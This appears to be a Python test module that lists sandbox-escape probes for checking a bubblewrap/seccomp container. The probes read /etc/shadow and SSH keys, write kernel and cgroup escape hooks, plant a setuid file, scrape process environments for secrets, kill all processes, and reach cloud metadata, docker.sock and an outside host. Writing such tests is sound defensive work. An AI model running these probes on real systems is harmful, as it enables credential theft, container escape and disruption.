"""Programs that look for files, processes and ways out."""

from tests.attacks.attack import Attack, hostile

_ROOT = "a root folder that holds only what is shown, read-only"
_NET = "a network of its own without anything in it; the filter of system calls"


def _reads(name: str, tries: str, *paths: str, stopped_by: str = _ROOT) -> Attack:
    return hostile(name, tries, stopped_by, load="\n".join(f"read({path})" for path in paths))


def _writes(name: str, tries: str, *paths: str, stopped_by: str = _ROOT) -> Attack:
    return hostile(name, tries, stopped_by, load="\n".join(f"write({path})" for path in paths))


FILES = (
    _reads("hidden pairs", "read the pairs that are scored", "SECRET_FILE", "FOLDER"),
    _reads("accounts", "read the host's secrets", "'/etc/shadow'", "'/etc/gshadow'", "'/root/.ssh'"),
    _reads("neighbors", "read the folders of other runs", "'/var/lib/pastiche'", "'/srv/pastiche'", "'/app'"),
    _reads("old root", "read the root that was there before", "'/oldroot'", "'/newroot'", "'/.pivot'"),
    _reads(
        "root by /proc",
        "walk to the host through another process's root",
        *(
            f"'{root}' + SECRET_FILE"
            for root in ("/proc/1/root", "/proc/1/cwd/../..", "/proc/self/root/../..")
        ),
    ),
    _reads(
        "kernel secrets", "read the kernel's memory and log", "'/proc/kcore'", "'/dev/mem'", "'/dev/kmsg'"
    ),
    hostile(
        "search for the secret",
        "look for the name of a hidden file everywhere",
        _ROOT,
        load="""
        def search():
            for root, folders, files in os.walk("/"):
                folders[:] = [f for f in folders if os.path.join(root, f) not in ("/proc", "/sys", "/usr", sys.prefix)]
                if os.path.basename(SECRET_FILE) in files: return root
        attempt("search", search)
        attempt("SECRET_FILE", lambda: open(SECRET_FILE))
        """,
    ),
    hostile(
        "links out",
        "make links to the host and read through them",
        "a link is followed inside",
        load="""
        for name, target in (("a", "/oldroot"), ("b", SECRET_FILE), ("c", "/proc/1/root" + FOLDER), ("d", "/..")):
            os.symlink(target, "/tmp/" + name)
        read("/tmp/a"); read("/tmp/b"); read("/tmp/c"); read("/tmp/d" + SECRET_FILE)
        """,
    ),
    _writes(
        "bundle and runner",
        "change the program that is run next time",
        "self.folder + '/model.py'",
        "self.folder + '/new'",
        "'/run/generator/runner.py'",
        "'/run/generator/new'",
    ),
    _writes(
        "interpreter", "change what all runs share", "sys.executable", "sys.prefix + '/new'", "'/usr/new'"
    ),
    _writes(
        "root folder", "write where nothing is counted", "'/new'", "'/dev/new'", "'/run/new'", "'/etc/new'"
    ),
    _writes(
        "kernel settings",
        "have the kernel start a program of its choice",
        "'/proc/sys/kernel/core_pattern'",
        "'/proc/sys/kernel/hostname'",
        "'/proc/sysrq-trigger'",
        "'/sys/kernel/uevent_helper'",
        stopped_by="settings that belong to another user namespace; a read-only root",
    ),
    _writes(
        "control groups",
        "raise its own limits",
        "'/sys/fs/cgroup/memory/memory.limit_in_bytes'",
        "'/sys/fs/cgroup/memory.max'",
        "'/sys/fs/cgroup/release_agent'",
        stopped_by="the groups are not shown",
    ),
    hostile(
        "devices",
        "use the host's devices",
        "a /dev of its own without them",
        load="for name in ('kvm', 'fuse', 'sda', 'vda', 'net/tun'): write('/dev/' + name)",
        own_kernel=True,
    ),
    hostile(
        "hard link",
        "keep a file of ours and change it later",
        "links do not lead from one file system to another",
        load="""
        attempt("runner", lambda: os.link("/run/generator/runner.py", "/tmp/runner") or True)
        attempt("model", lambda: os.link(self.folder + "/model.py", "/tmp/model") or True)
        """,
    ),
    hostile(
        "memory files",
        "write into a program that runs, through /proc",
        "read-only binds; a program that runs is busy",
        load="""
        attempt("executable", lambda: os.open("/proc/self/exe", os.O_WRONLY) >= 0)
        attempt("runner", lambda: os.open("/run/generator/runner.py", os.O_WRONLY) >= 0)
        """,
    ),
    hostile(
        "set-user-id file",
        "leave a program that makes whoever starts it root",
        "a temporary folder of its own, without such rights, gone after the run",
        load="""
        def leave():
            open("/tmp/su", "wb").write(b"x"); os.chmod("/tmp/su", 0o4755)
            return os.stat("/tmp/su").st_uid == 0
        attempt("owned by root", leave)
        attempt("owned by root later", lambda: os.chown("/tmp/su", 0, 0) or True)
        """,
    ),
)

PROCESSES = (
    hostile(
        "environments",
        "find the worker's passwords in a process's environment",
        "an empty environment before bubblewrap starts; a process namespace",
        load="""
        import glob
        def search():
            files = glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
            return [f for f in files if VARIABLE.encode() in open(f, "rb").read()]
        attempt("search", search)
        attempt("variable", lambda: os.environ[VARIABLE])
        """,
    ),
    hostile(
        "names in mounts",
        "learn from the mounts whose run this is",
        "paths on the host are random names",
        load="""
        text = open("/proc/self/mountinfo").read() + open("/proc/1/cmdline").read()
        attempt("folder", lambda: os.path.basename(FOLDER) in text)
        attempt("stopped", lambda: {}["no team, no pair, no competition"])
        """,
    ),
    hostile(
        "other processes",
        "find and end other processes",
        "a process namespace",
        load="""
        attempt("others", lambda: [p for p in os.listdir("/proc") if p.isdigit() and int(p) not in (1, 2, os.getpid())])
        attempt("ending 1", lambda: os.kill(1, 9) or os.getpid() != 1 and not os.path.exists("/proc/1"))
        attempt("ending the worker", lambda: os.kill(int(ABSTRACT.split("-")[1]) + 10**6, 9) or True)
        """,
        own_kernel=True,
    ),
    hostile(
        "open files",
        "use a file that the worker left open",
        "only the pipes are passed on",
        load="""
        def search():
            links = [os.readlink(f"/proc/self/fd/{n}") for n in range(64) if os.path.exists(f"/proc/self/fd/{n}")]
            return [link for link in links if link[0] == "/" and not link.startswith(("/dev/null", "/proc", "/bundle"))]
        attempt("search", search)
        attempt("a descriptor", lambda: os.fstat(63))
        """,
    ),
    hostile(
        "process 1",
        "have process 1, which started the generator, do what the filter forbids",
        "process 1 is behind the same filter and has no rights either",
        load="""
        status = dict(line.split(":", 1) for line in open("/proc/1/status").read().splitlines())
        attempt("no filter", lambda: status["Seccomp"].strip() != "2")
        attempt("rights", lambda: int(status["CapEff"], 16) or int(status["CapBnd"], 16))
        attempt("another user", lambda: status["Uid"].split()[0] != str(os.getuid()))
        attempt("stopped", lambda: {}["nothing to gain there"])
        """,
        own_kernel=True,
    ),
    hostile(
        "end of everything",
        "end all processes, itself among them",
        "the namespace ends with them: no answer is no success",
        "CRASHED",
        pair="os.kill(-1, signal.SIGKILL); os.kill(os.getpid(), signal.SIGKILL); os._exit(0)",
    ),
)


def _socket(name: str, tries: str, *sockets: str) -> Attack:
    lines = [f"attempt({text.split(';')[0]!r}, lambda: {text.split(';')[-1]})" for text in sockets]
    return hostile(name, tries, _NET, load="\n".join(lines))


def _kind(name: str, tries: str, *kinds: str) -> Attack:
    made = _socket(name, tries, *(f"{kind};socket.socket({kind})" for kind in kinds))
    return Attack(**{**vars(made), "own_kernel": True})


def _connects(family: str, address: str) -> str:
    return f"{address};socket.socket({family}).connect({address}) or True"


NETWORK = (
    _socket(
        "server of the host",
        "reach a server of this machine",
        _connects("socket.AF_INET", "('127.0.0.1', PORT)"),
    ),
    _socket(
        "other machines",
        "send what it has seen to another machine",
        _connects("socket.AF_INET, socket.SOCK_DGRAM", "('192.0.2.1', 53)"),
        _connects("socket.AF_INET6, socket.SOCK_DGRAM", "('2001:db8::1', 53)"),
    ),
    _socket(
        "metadata of the cloud",
        "ask the cloud for the machine's credentials",
        _connects("socket.AF_INET, socket.SOCK_DGRAM", "('169.254.169.254', 80)"),
    ),
    _socket(
        "sockets of the host",
        "reach a service of this machine",
        _connects("socket.AF_UNIX", "ABSTRACT"),
        _connects("socket.AF_UNIX", "SOCKET_FILE"),
        _connects("socket.AF_UNIX", "'/run/docker.sock'"),
        _connects("socket.AF_UNIX", "'/run/dbus/system_bus_socket'"),
    ),
    _kind("IP sockets", "reach code of the kernel", "socket.AF_INET", "socket.AF_INET6"),
    _kind("netlink", "change the network, reach code of the kernel", "16, 3, 0", "16, 3, 9", "16, 3, 12"),
    _kind("raw packets", "see others' packets", "17, 3", "socket.AF_INET, socket.SOCK_RAW, 255"),
    _kind("vsock", "reach the machine below this one: no network namespace covers that", "40, 1"),
    _kind("kernel cryptography", "reach code of the kernel", "38, 5"),
    _kind(
        "rare protocols", "reach code of the kernel that nobody looks at", "44, 1", "21, 5", "30, 1", "41, 2"
    ),
)
